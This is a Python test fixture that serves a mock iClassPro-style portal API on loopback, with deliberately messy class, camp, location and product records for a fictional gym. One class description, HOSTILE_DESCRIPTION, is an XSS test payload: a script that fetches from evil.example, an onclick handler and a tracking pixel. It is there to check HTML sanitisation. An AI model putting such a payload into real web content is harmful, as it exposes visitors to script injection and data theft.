"""A small iClassPro-shaped open API over real HTTP on loopback, with a live account's untidiness.

It serves `/api/open/v1/{account}/...` in the shapes of ../shared/PORTAL_API.md section 1 from
plain dicts a test can change between refreshes. The records are as awkward as a real account's:
12-hour and 24-hour times, a slot with only a timeStamp, US and ISO dates, empty-string and zero
dates, nulls, numeric and string booleans, prices as strings, one malformed class, and a
description written to hurt. Unknown query parameters are ignored, as iClassPro does.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

ACCOUNT = "tumbletown"
HOSTILE_DESCRIPTION = (
    '<p onclick="steal()">Tumbling for <b>beginners</b>.</p>'
    '<script>fetch("http://evil.example/steal")</script>'
    '<img src="http://evil.example/pixel.gif">'
    '<a href="http://evil.example">tap here</a>'
    "<style>p { display: none }</style>"
)
SIGN_IN_MESSAGE = "Please sign in to see classes."


def _slot(day: int, name: str, start: Any, end: Any, stamp: Any = None) -> dict[str, Any]:
    return {"dayNumber": day, "dayName": name, "startTime": start, "endTime": end,
            "timeStamp": stamp, "tsId": f"{day}-{stamp}"}  # fmt: skip


def default_account() -> dict[str, Any]:
    """The fixture account's catalog, keyed by route; tests edit it between refreshes."""
    classes = [
        {
            "id": 101,
            "name": "Tumble Tots",
            "minAgeYear": 3,
            "minAgeMonth": 0,
            "maxAgeYear": "5",
            "maxAgeMonth": None,
            "schedule": [_slot(2, "Mon", "3:30PM", "4:15PM", 55800)],
            "programId": 1,
            "levelId": 10,
            "instructors": ["Ana Ruiz"],
            "allowWebRegistration": 1,
            "showOpenings": "1",
            "openings": 4,
            "futureOpenings": 4,
            "allowWaitlist": "0",
            "autoApprove": True,
            "dates": {"start": "01/05/2027", "end": "", "regStart": None},
            "image": None,
            "sessions": [],
            "startDate": "",
            "endDate": "0000-00-00",
        },
        {
            "id": 102,
            "name": "Ninja Warriors",
            "minAgeYear": 6,
            "maxAgeYear": 12,
            "schedule": [
                _slot(4, "Wed", "17:00", "18:00:00", None),
                _slot(6, "Fri", None, None, 61200),
            ],
            "programId": "2",
            "levelId": None,
            "instructors": [{"firstName": "Sam", "lastName": "Okafor"}],
            "allowWebRegistration": True,
            "showOpenings": True,
            "openings": "0",
            "allowWaitlist": 1,
            "dates": None,
            "startDate": "2027-01-04",
            "endDate": "2027-05-28T00:00:00",
        },
        {
            "id": 103,
            "name": "Teen Tumbling",
            "minAgeYear": None,
            "maxAgeYear": None,
            "schedule": [_slot(7, "", "9am", "10 AM")],
            "programId": 1,
            "levelId": 11,
            "instructors": None,
            "allowWebRegistration": "true",
            "openings": 2,
            "allowWaitlist": False,
            "dates": {"start": "2027-01-09", "end": "2027-06-05"},
        },
        # malformed: no readable id and a schedule that is not a list
        {"id": "not-a-number", "name": "Broken Class", "schedule": "soon"},
    ]
    details = {
        101: {"description": HOSTILE_DESCRIPTION},
        102: {"description": "<p>Obstacles &amp; climbing.</p>"},
        103: {"description": None},
    }
    camps = [
        {
            "id": 501,
            "name": "Spring Break Camp",
            "programId": 7,
            "typeId": 3,
            "minAge": "5",
            "maxAge": 12,
            "startDate": "03/15/2027",
            "endDate": "2027-03-19",
            "registrationStartDate": "",
            "registrationEndDate": None,
            "schedule": [_slot(2, "Mon", "9:00AM", "3:00PM", 32400)],
            "hasOpenings": 1,
            "openings": 10,
            "openingsDisplay": "10 OPEN",
            "allowChooseDays": "1",
            "allowToRequestCampThatIsFull": 0,
            "image": None,
        },
        {"id": 502, "name": None, "typeId": 3},  # malformed: a camp with no name
    ]
    return {
        "locations": [
            {
                "id": 1, "name": "Tumbletown Gym", "email": "hello@tumbletown.example",
                "phone": "555-0100", "url": "", "address": "1 Main St", "address2": None,
                "city": "Springfield", "state": "IL", "zip": "62701", "country": "US",
                "active": 1, "primaryColor": "#7b1fa2", "secondaryColor": None, "logo": None,
                "headerImage": "", "showAddressOnPortal": "1", "showPhoneNumberOnPortal": True,
            },
            {"id": 2, "name": "Closed Annex", "active": 0},
        ],
        "bookings": [
            {"title": "Classes", "subTitle": "Weekly classes", "pluralTitle": "Classes",
             "image": None, "target": "classes", "targetParams": None},
            {"title": "Camp", "subTitle": "School-break camps", "pluralTitle": "Camps",
             "image": "", "target": "camps", "targetParams": {"typeId": "3"}},
            {"title": "Parties", "subTitle": "", "target": "parties", "targetParams": {}},
        ],
        "class-programs": [{"id": 1, "name": "Gymnastics"}, {"id": 2, "name": "Ninja"}],
        "camp-programs": [{"id": 7, "name": "Camps"}],
        "levels": [
            {"id": 10, "sortOrder": "1", "name": "Beginner", "color": "#ff9800",
             "textColor": None, "image": None},
            {"id": 11, "sortOrder": 2, "name": "Advanced", "color": "", "textColor": "#fff"},
        ],
        "instructors": [
            {"id": 31, "firstName": "Ana", "lastName": "Ruiz"},
            {"id": 32, "firstName": "Sam", "lastName": "Okafor"},
            {"id": 33, "firstName": None, "lastName": ""},
        ],
        "sessions": [{"id": 1, "name": "Spring 2027", "startDate": "01/04/2027"}],
        "classes": classes,
        "class-details": details,
        "camps": camps,
        "camp-details": {501: {"description": "<p>Games, crafts and <i>gym time</i>.</p>",
                               "programName": "Camps", "instructors": ["Ana Ruiz"]}},
        "parties": {"date": "2027-03-01", "availableDays": ["2027-03-06", "2027-03-07"],
                    "useInclusiveTax": 0},
        "products": [
            {"id": 901, "name": "Tumbletown T-shirt", "sku": "TS-1", "price": "18.00",
             "salePrice": None, "activePrice": "18.00", "sale": 0, "inventoryCount": "12",
             "enableInventory": 1, "images": [], "shortDescription": "<b>Soft</b> cotton &amp; fun",
             "taxRate": "0.0625", "showOnCustomerPortal": 1},
            {"id": 902, "name": "Water bottle", "price": 12, "salePrice": 9.5,
             "activePrice": 9.5, "sale": True, "images": None, "showOnCustomerPortal": "1"},
            {"id": 903, "name": "Staff hoodie", "price": 40, "showOnCustomerPortal": 0},
        ],
    }  # fmt: skip


class IClassProFixture:
    """The fixture account on a real HTTP server on 127.0.0.1.

    `account` is the catalog (see `default_account`); `unavailable` lists routes that answer
    400 as when the facility's plan lacks the feature; `sign_in_required` makes the class list
    ask families to sign in; `seen` records every request path (with its query)."""

    def __init__(self, account_name: str = ACCOUNT) -> None:
        self.account_name = account_name
        self.account = default_account()
        self.unavailable: set[str] = set()
        self.sign_in_required = False
        self.sign_in_status = 200  # how the class list asks for sign-in (200 envelope or 401)
        self.seen: list[str] = []
        self.in_flight = 0
        self.most_in_flight = 0
        self._lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                with outer._lock:
                    outer.seen.append(self.path)
                    outer.in_flight += 1
                    outer.most_in_flight = max(outer.most_in_flight, outer.in_flight)
                try:
                    status, body = outer.answer(self.path)
                    payload = json.dumps(body).encode()
                    self.send_response(status)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(payload)))
                    self.end_headers()
                    self.wfile.write(payload)
                finally:
                    with outer._lock:
                        outer.in_flight -= 1

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True
        )
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def paths(self, fragment: str) -> list[str]:
        return [path for path in self.seen if fragment in path]

    # ----- routes ------------------------------------------------------------------------

    def answer(self, raw_path: str) -> tuple[int, Any]:
        parts = urlsplit(raw_path)
        query = {k: v[-1] for k, v in parse_qs(parts.query).items()}
        segments = [s for s in parts.path.split("/") if s]
        if segments[:3] != ["api", "open", "v1"] or len(segments) < 5:
            return 404, {"message": "Not Found"}
        if segments[3] != self.account_name:
            return 404, {"data": None, "message": "Account not found.", "errors": []}
        route = segments[4:]
        data = self.account
        if route[0] in self.unavailable:
            return 400, {"data": None, "message": "This feature is not enabled.", "errors": []}
        if route == ["locations"]:
            return self._list(data["locations"])
        if route[0] == "bookings":
            return self._env(data["bookings"])
        if route[0] in ("class-programs", "camp-programs"):
            return self._env(data[route[0]])
        if route[:2] == ["levels", "active"]:
            return self._env(data["levels"])
        if route[0] == "instructors":
            return self._env(data["instructors"])
        if route == ["sessions"]:
            return self._env(data["sessions"])
        if route == ["classes"]:
            if self.sign_in_required:
                body = {"data": [], "totalRecords": 0, "message": SIGN_IN_MESSAGE, "errors": []}
                return self.sign_in_status, body
            return self._paged(data["classes"], query)
        if route[0] == "classes":
            found = self._find(data["classes"], route[1])
            if found is None:
                return 400, {"data": None, "message": "Class not found.", "errors": []}
            return self._env({**found, **data["class-details"].get(found["id"], {})})
        if route == ["camps"]:
            return self._paged(data["camps"], query)
        if route[0] == "camps":
            found = self._find(data["camps"], route[1])
            if found is None:
                return 400, {"data": None, "message": "Camp not found.", "errors": []}
            return self._env({**found, **data["camp-details"].get(found["id"], {})})
        if route[:2] == ["parties", "create"]:
            return self._env(data["parties"])
        if route[0] == "products":
            return self._list(data["products"])
        return 404, {"message": "Not Found"}

    @staticmethod
    def _env(data: Any) -> tuple[int, Any]:
        return 200, {"data": data, "message": "", "errors": []}

    @staticmethod
    def _list(items: list[Any]) -> tuple[int, Any]:
        return 200, {"data": items, "totalRecords": len(items), "message": "", "errors": []}

    @staticmethod
    def _paged(items: list[Any], query: dict[str, str]) -> tuple[int, Any]:
        limit = int(query.get("limit") or 50)
        page = int(query.get("page") or 1)
        chunk = items[(page - 1) * limit : page * limit]
        return 200, {"data": chunk, "totalRecords": len(items), "message": "", "errors": []}

    @staticmethod
    def _find(items: list[dict[str, Any]], record_id: str) -> dict[str, Any] | None:
        return next((item for item in items if str(item.get("id")) == record_id), None)


@contextmanager
def iclasspro_account(account_name: str = ACCOUNT) -> Iterator[IClassProFixture]:
    fixture = IClassProFixture(account_name)
    try:
        yield fixture
    finally:
        fixture.close()
